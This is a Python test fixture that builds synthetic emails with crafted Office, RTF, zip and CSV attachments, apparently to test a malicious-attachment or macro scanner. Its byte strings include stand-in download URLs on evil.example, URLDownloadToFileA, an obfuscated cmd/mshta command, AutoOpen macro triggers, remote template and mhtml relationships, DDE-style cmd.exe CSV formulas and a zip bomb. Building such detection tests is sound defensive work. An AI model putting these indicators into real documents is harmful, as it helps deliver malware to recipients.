"""Messages with office documents of our own making: compound files, RTF, zip documents and archives, whole
and damaged, with and without macros. all_messages() gives pairs of a name and the bytes."""
import base64
import io
import quopri
import random
import struct
import zipfile

COMPOUND = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
CONTENT_TYPES = ("<?xml version=\"1.0\"?><Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\">"
                 "<Default Extension=\"xml\" ContentType=\"application/xml\"/>%s</Types>")
VBA_TYPE = "<Override PartName=\"/word/vbaProject.bin\" ContentType=\"application/vnd.ms-office.vbaProject\"/>"


def compound(streams, sector_bytes=None):
    """A compound file of 512-byte sectors: header, one FAT sector, directory, streams."""
    def padded(data, size=512):
        return data + b"\0" * (-len(data) % size)
    directory, contents = b"", b""
    entries = [("Root Entry", 5, b"")] + [(name, 2, data) for name, data in streams]
    directory_sectors = (len(entries) * 128 + 511) // 512
    chains, sector = [-3] + list(range(2, 1 + directory_sectors)) + [-2], 1 + directory_sectors
    for number, (name, kind, data) in enumerate(entries):
        text = name.encode("utf-16-le")
        count = (len(data) + 511) // 512
        first = sector if count else -2
        directory += (text[:62].ljust(64, b"\0") + struct.pack("<HBBiii", len(text[:62]) + 2, kind, 1, -1,
                      number + 1 if 0 < number < len(entries) - 1 else -1, 1 if kind == 5 and streams else -1) + b"\0" * 36 + struct.pack("<iQ", first, len(data)))
        if count:
            chains += list(range(sector + 1, sector + count)) + [-2]
            sector += count
            contents += padded(data)
    fat = struct.pack("<128i", *(chains + [-1] * 128)[:128])
    header = (COMPOUND + b"\0" * 16 + struct.pack("<HHHHH", 0x3e, 3, 0xfffe, 9, 6) + b"\0" * 10 +
              struct.pack("<iiIIiiii", 1, 1, 0, 4096, -2, 0, -2, 0) + struct.pack("<109i", 0, *[-1] * 108))
    out = header[:512].ljust(512, b"\0") + fat + padded(directory) + contents
    for at, value in (sector_bytes or {}).items():
        out = out[:at] + value + out[at + len(value):]
    return out


def archive(files, method=zipfile.ZIP_DEFLATED, comment=b""):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as z:
        for name, data in files:
            z.writestr(zipfile.ZipInfo(name, (2024, 3, 5, 12, 0, 0)), data, method)
        z.comment = comment
    return out.getvalue()


def with_password(data):
    """The same archive, every file marked as encrypted."""
    out = bytearray(data)
    for signature, offset in ((b"PK\3\4", 6), (b"PK\1\2", 8)):
        at = out.find(signature)
        while at >= 0:
            out[at + offset] |= 1
            at = out.find(signature, at + 4)
    return bytes(out)


def relationships(*targets):
    return ("<?xml version=\"1.0\"?><Relationships>" + "".join(
        "<Relationship Id=\"r%d\" Type=\"x\" Target=\"%s\"%s/>" % (i, target, " TargetMode=\"External\"" if external else "")
        for i, (target, external) in enumerate(targets)) + "</Relationships>")


def part(name, data, type="application/octet-stream", encoding="base64", disposition="attachment", filename=None):
    text = base64.encodebytes(data) if encoding == "base64" else quopri.encodestring(data) if encoding == "quoted-printable" else data
    lines = "Content-Type: %s%s\n" % (type, "; name=\"%s\"" % name if name else "")
    if disposition:
        lines += "Content-Disposition: %s%s\n" % (disposition, "; filename=\"%s\"" % (filename if filename is not None else name) if name or filename else "")
    return lines.encode() + ("Content-Transfer-Encoding: %s\n\n" % encoding).encode() + text


def mail(*parts, text="Please see the papers.\n"):
    body = b"--x\nContent-Type: text/plain\n\n" + text.encode() + b"".join(b"\n--x\n" + p for p in parts) + b"\n--x--\n"
    return (b"From: Alice <alice@example.com>\nTo: bob@example.org\nSubject: papers\nMessage-ID: <1@example.com>\n"
            b"Date: Tue, 05 Mar 2024 12:00:00 +0000\nMIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=x\n\n" + body)


def word(macros=True, malice=False, rels=None, types="", extra=()):
    files = [("[Content_Types].xml", CONTENT_TYPES % types), ("word/document.xml", "<w:document/>")]
    if macros:
        files.append(("word/vbaProject.bin", b"Attribute VB_Name = " + (b"Sub AutoOpen()" if malice else b"Sub Nothing()")))
    if rels is not None:
        files.append(("word/_rels/document.xml.rels", rels))
    return archive(files + list(extra))


def documents():
    """(name, bytes): the files themselves, under the names they have in life."""
    macro = b"\0Attribut\0e VB_Name = \"ThisDocument\"\r\nSub "
    yield "plain.doc", compound([("WordDocument", b"text " * 200)])
    yield "macro.doc", compound([("WordDocument", b"text"), ("dir", macro + b"x")])
    yield "autoopen.doc", compound([("Macros", macro + b"Document_Open()")])
    yield "workbook_open.xls", compound([("Workbook", b"cells"), ("Macros", macro + b"workbook_OPEN")])
    yield "object.xls", compound([("Workbook", b""), ("\1Ole10Native", b"x" * 600)])
    yield "encrypted.docx", compound([("EncryptionInfo", b"\4\0"), ("EncryptedPackage", b"z" * 900)])
    yield "encrypted-xml.doc", compound([("Workbook", b""), ("x", b"<Encryption xmlns=\"u\">")])
    yield "spaced.doc", compound([("x", b"")], {1100: b"\\0".join(bytes([c]) for c in b"EncryptedPackage")})
    for at, value in ((0x208, b"\xfe"), (0x214, b"\x2f"), (0x20b, b"\x13"), (0x20a, b"\x13")):
        yield "byte%x.doc" % at, compound([("a", b"b")], {at: value})
        yield "byte%x-workbook.xls" % at, compound([("Workbook", b"b")], {at: value})
    yield "short.doc", COMPOUND
    yield "shorter.doc", COMPOUND[:4] + macro
    yield "shifted.doc", b" " + compound([("dir", macro)])
    yield "download.doc", compound([("dir", macro + b"\0http://evil.example/dir/program.exe\0")])
    yield "download-pipe.doc", compound([("dir", b"\0HTTPS://evil.example/dir/ab,cde.BAT|")])
    yield "download-six.xls", compound([("dir", b"\0http://evil.example/dirxcmd\x06")])
    yield "download-line.xls", compound([("dir", b"\0http://evil.example/dir\nexe\0")])
    yield "download-short.xls", compound([("dir", b"\0http://ab.c/de.exe\0")])
    yield "download-just.xls", compound([("dir", b"\0http://ab.c/abcde.exe\0")])
    yield "download-end.xls", compound([("dir", b"\0http://evil.example/path/,a.exe\0")])
    yield "download-noend.xls", compound([("dir", b"\0http://evil.example/path/abcd.exe ")])
    for length in (990, 1000, 1500, 1985, 1995, 2000, 2005, 2100):
        yield "download-%d.xls" % length, compound([("dir", b"\0http://" + b"a" * length + b".exe\0")])
        yield "download-comma-%d.xls" % length, compound([("dir", b"\0http://" + b"a" * (length // 2) + b"," + b"a" * (length // 2) + b".cmd\0")])
    yield "urldownload.doc", compound([("dir", b"URLDownloadToFileA\0http://evil.example/path/abcd.exe\0")])
    yield "urldownload-first.doc", b"URLDownloadToFileA\0http://evil.example/path/abcd.exe\0"
    yield "mshta.doc", b"x cmd /c ms^h^ta ht^tp:/^/evil.example/"
    yield "mshta2.rtf", b"{\\rtf1 cmd.exe /c ms^h^ta ht^tps:/^/evil.example/}"
    yield "embedded.rtf", b"{\\rtf1{\\object\\objemb x}}"
    yield "data.rtf", b"{\\rtf1{\\object\\objdata 0102}}"
    yield "blank-data.rtf", b"{\\rtf1{\\object\\ objdata 0102 autoopen}}"
    yield "plain.rtf", b"{\\rtf1 plain}"
    yield "xml2003.doc", b"<?xml version=\"1.0\"?><w:wordDocument w:macrosPresent=\"yes\">auto_open"
    yield "rels-text.doc", b"something word/_rels/vbaProject.bin.rels something"
    yield "plain.docx", word(False)
    yield "macro.docm", word()
    yield "macro-auto.docm", word(malice=True)
    yield "macro.docx", word()
    yield "vba-type.docx", word(False, types=VBA_TYPE)
    yield "vba-type-single.docx", word(False, types=VBA_TYPE.replace('"', "'"))
    yield "macroenabled.docx", word(False, types="<Override ContentType=\"application/vnd.ms-word.document.macroEnabled.main+xml\"/>")
    yield "macrosheet.xlsx", word(False, types="<Override ContentType=\"application/vnd.ms-excel.intlmacrosheet+xml\"/>")
    yield "types-twice.docx", archive([("[Content_Types].xml", CONTENT_TYPES % ""), ("[content_Types].xml", CONTENT_TYPES % VBA_TYPE)]).replace(
        b"[content", b"[Content")
    yield "types-lower.docx", archive([("[content_types].xml", CONTENT_TYPES % VBA_TYPE)])
    yield "excel.xlsm", archive([("[Content_Types].xml", CONTENT_TYPES % ""), ("XL/VbaProject.BIN", b"Workbook_Open"), ("xl/embeddings/oleObject1.bin", b"x")])
    yield "powerpoint.ppt", archive([("ppt/vbaProject.bin", b"x"), ("ppt/other.bin", b"AUTOOPEN")])
    yield "binary-alone.xlsx", archive([("xl/other.bin", b"AUTOOPEN")])
    yield "old-in-zip.doc", archive([("Macros/VBA/_VBA_PROJECT", b"x")])
    yield "rtf-in-word.docx", word(False, extra=[("word/afchunk.rtf", b"{\\rtf1}")])
    yield "rtf-name.docx", word(False, extra=[("word/" + "a" * 51 + ".rtf", b"x"), ("word/.rtf", b"x"), ("wordx/a.rtf", b"x")])
    yield "rtf-word-boundary.docx", word(False, extra=[("word/a.rtf.xml", b"x")])
    yield "rtf-no-boundary.docx", word(False, extra=[("word/a.rtfx", b"x")])
    yield "embeddings.xlsx", archive([("xl/embeddings/", b""), ("a", b"b")])
    yield "redirect.docx", word(False, rels=relationships(("http://templates.example/a.dotm", True), ("styles.xml", False)))
    yield "redirect-many.docx", word(False, rels=relationships(*[("https://t%d.example/" % i, True) for i in range(14)]))
    yield "redirect-case.docx", word(False, rels="<relationship target=\"HTTP://One.example/\" targetmode=\"external\"/>x<Relationship\ttarget=\"HTTP://Two.example/\" \n targetmode=\"external\"/>")
    yield "redirect-order.docx", word(False, rels="<Relationship TargetMode=\"External\" Target=\"http://before.example/\"/>")
    yield "redirect-next.docx", word(False, rels="<Relationship Target=\"http://internal.example/\"/><Relationship TargetMode=\"External\"/>")
    yield "mhtml.docx", word(False, rels=relationships(("mhtml:https://m.example/x.html!x-usc:https://m.example/x.html", True)))
    yield "mhtml-entities.docx", word(False, rels=relationships(("MHTML:&#x48;&#x54;&#x50;&#x3a;&#x5c;&#x5c;&#x31;&#x32;", True)))
    yield "mhtml-many.docx", word(False, rels=relationships(*[("mhtml:http://m%d.example/" % i, True) for i in range(8)]))
    yield "rels-empty.docx", archive([("a.rels", b"")])
    yield "rels-only.docx", archive([("a.rels.bak", b"Relationship Relationship ")])
    yield "rels-other.docx", archive([("x/a.rels.bak", relationships(("http://bak.example/", True))), ("b.RELS", relationships(("http://upper.example/", True)))])
    yield "stored.docm", archive([("word/vbaProject.bin", b"AutoOpen")], zipfile.ZIP_STORED)
    yield "comment.docx", archive([("[Content_Types].xml", "macroEnabled")], comment=b"some comment " * 20)
    yield "empty.docx", archive([])
    whole = word(malice=True)
    yield "cut.docm", whole[:-30]
    yield "cut2.docm", whole[:len(whole) // 2]
    yield "head.docx", b"junk before" + word(False, types=VBA_TYPE)
    yield "tail.docx", word(False, types=VBA_TYPE) + b"junk behind it"
    yield "tail-long.docx", word(False, types=VBA_TYPE) + b"junk behind it" * 6000
    yield "bad-crc.docx", word(False, types=VBA_TYPE).replace(struct.pack("<I", zipfile.crc32((CONTENT_TYPES % VBA_TYPE).encode())), b"\1\2\3\4")
    broken = bytearray(word(False, types=VBA_TYPE))
    broken[60:90] = b"\xff" * 30
    yield "bad-deflate.docx", bytes(broken)
    yield "password.docm", with_password(word())
    yield "password.xlsx", with_password(archive([("[Content_Types].xml", "macroEnabled"), ("xl/vbaProject.bin", b"x")]))
    yield "PK.doc", b"PK is not an archive"
    yield "empty.doc", b""
    yield "nothing.txt", b"nothing at all"
    yield "table.csv", b"=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe'!''"
    yield "table-far.csv", b"=MSEXCEL|" + b"x" * 21 + b"Windows\\System32\\cmd.exe"
    yield "table-case.CSV", b"=MSEXCEL|xWindows\\System32\\cmd.exe"
    yield "table-other.csv", b"=MSEXCEL|xWINDOWS\\System32\\cmd.exe"
    yield "slides.pptx", word()
    yield "sheet.xlsb", archive([("xl/workbook.bin", b"auto_open")])
    yield "UPPER.DOC", compound([("dir", macro)])
    yield "UPPER.DOCM", word()


def all_messages():
    files = list(documents())
    for name, data in files:
        yield "single/" + name, mail(part(name, data))
        yield "renamed/" + name, mail(part("file.dat", data))
        yield "zipped/" + name, mail(part("papers.zip", archive([(name, data)])))
        yield "zipped-renamed/" + name, mail(part("papers.zip", archive([("folder/file.dat", data)])))
    by_name = dict(files)
    macro = by_name["autoopen.doc"]
    docm = by_name["macro-auto.docm"]
    yield "part/no-name", mail(part("", macro))
    yield "part/disposition-name", mail(part("", macro, filename="a.doc"))
    yield "part/names-differ", mail(part("a.txt", macro, filename="a.doc"))
    yield "part/names-differ2", mail(part("a.doc", macro, filename="a.txt"))
    yield "part/names-case", mail(part("A.DOC", macro, filename="a.doc"))
    yield "part/text", mail(part("a.doc", macro, "text/plain"))
    yield "part/text-html", mail(part("a.doc", b"<html>\\objdata</html>", "text/html"))
    yield "part/inline", mail(part("a.doc", macro, disposition="inline"))
    yield "part/quoted-printable", mail(part("a.rtf", by_name["data.rtf"], encoding="quoted-printable"))
    yield "part/8bit", mail(part("a.rtf", by_name["data.rtf"], encoding="8bit"))
    yield "part/7bit-upper", mail(part("a.rtf", by_name["data.rtf"]).replace(b"Encoding: base64", b"Encoding: BASE64"))
    yield "part/encoding-comment", mail(part("a.rtf", by_name["data.rtf"]).replace(b"Encoding: base64", b"Encoding: base64 (x)"))
    yield "part/encoding-twice", mail(part("a.rtf", by_name["data.rtf"]).replace(b"Content-Transfer", b"Content-Transfer-Encoding: 8bit\nContent-Transfer"))
    yield "part/no-type", mail(part("", by_name["data.rtf"], filename="a.rtf").split(b"\n", 1)[1])
    yield "part/unquoted", mail(part("a.doc", macro).replace(b"\"a.doc\"", b"a.doc"))
    yield "part/single-quotes", mail(part("a.doc", macro).replace(b"\"a.doc\"", b"'a.doc'"))
    yield "part/blank-behind", mail(part("a.doc  ", macro))
    yield "part/semicolon", mail(part("a;b.doc", macro))
    yield "part/folded", mail(part("a.doc", macro).replace(b"name=", b"\n\tname ="))
    yield "part/encoded-word", mail(part("=?utf-8?B?%s?=" % base64.b64encode(b"b\xc3\xbccher.doc").decode(), macro))
    yield "part/rfc2231", mail(part("", macro).replace(b"attachment", b"attachment; filename*=utf-8''a%2edoc"))
    yield "part/root", (b"From: a@example.com\nSubject: root\nMIME-Version: 1.0\n" + part("a.doc", macro))
    yield "part/message", mail(b"Content-Type: message/rfc822\n\n" + mail(part("a.doc", macro)))
    yield "part/message-base64", mail(part("a.doc", mail(part("b.doc", macro)), "message/rfc822"))
    for count in range(3, 8):
        yield "limits/parts-%d" % count, mail(*[part("p%d.doc" % i, b"x") for i in range(count)] + [part("m.docm", docm)])
        yield "limits/skipped-parts-%d" % count, mail(*[part("p%d.txt" % i, b"x") for i in range(count)] + [part("m.docm", docm)])
    for count in range(6, 11):
        yield "limits/entries-%d" % count, mail(part("a.zip", archive([("e%d.doc" % i, b"x") for i in range(count)] + [("m.docm", docm)])))
        yield "limits/skipped-entries-%d" % count, mail(part("a.zip", archive([("e%d.txt" % i, b"x") for i in range(count)] + [("m.docm", docm)])))
    nested = archive([("m.docm", docm)])
    for depth in range(1, 5):
        yield "limits/depth-%d" % depth, mail(part("a.zip", nested))
        nested = archive([("inner%d.zip" % depth, nested)])
    yield "limits/large", mail(part("a.doc", b"x" * 1100000 + b"\\objdata"))
    yield "limits/large-in", mail(part("a.doc", b"x" * 1000000 + b"\\objdata"))
    yield "limits/large-zip", mail(part("a.zip", archive([("z.bin", random.Random(1).randbytes(1100000)), ("m.docm", docm)], zipfile.ZIP_STORED)))
    yield "limits/bomb", mail(part("a.zip", archive([("z.doc", b"\0" * 3000000), ("m.docm", docm)])))
    yield "zip/password", mail(part("a.zip", with_password(archive([("a.txt", b"x")]))))
    yield "zip/password-macro", mail(part("a.zip", with_password(archive([("a.docm", docm)]))))
    yield "zip/password-skipped", mail(part("a.zip", with_password(archive([("a.pptx", b"x")]))))
    yield "zip/name-only", mail(part("a.gzip", archive([("a.docm", docm)])))
    yield "zip/upper", mail(part("A.ZIP", archive([("a.docm", docm)])))
    yield "zip/no-archive", mail(part("a.zip", b"no archive"))
    yield "zip/directory", mail(part("a.zip", archive([("docs.docm/", b""), ("x", b"y")])))
    yield "zip/two", mail(part("a.zip", archive([("a.doc", b"x")])), part("b.zip", archive([("a.doc", macro)])))
    rng = random.Random(20240306)
    for i in range(60):
        # Pieces of files, bytes changed.
        data = bytearray(rng.choice(files)[1])
        for _ in range(rng.randint(0, 4)):
            if data:
                data[rng.randrange(len(data))] = rng.randrange(256)
        name = rng.choice(files)[0]
        if rng.random() < 0.3:
            data, name = archive([(rng.choice(files)[0], bytes(data)), rng.choice(files)]), rng.choice(["a.zip", "a.docx", "a.dat", "a.xls"])
        yield "mixed/%02d-%s" % (i, name), mail(part(name, bytes(data)), *[part(*rng.choice(files)) for _ in range(rng.randint(0, 2))])
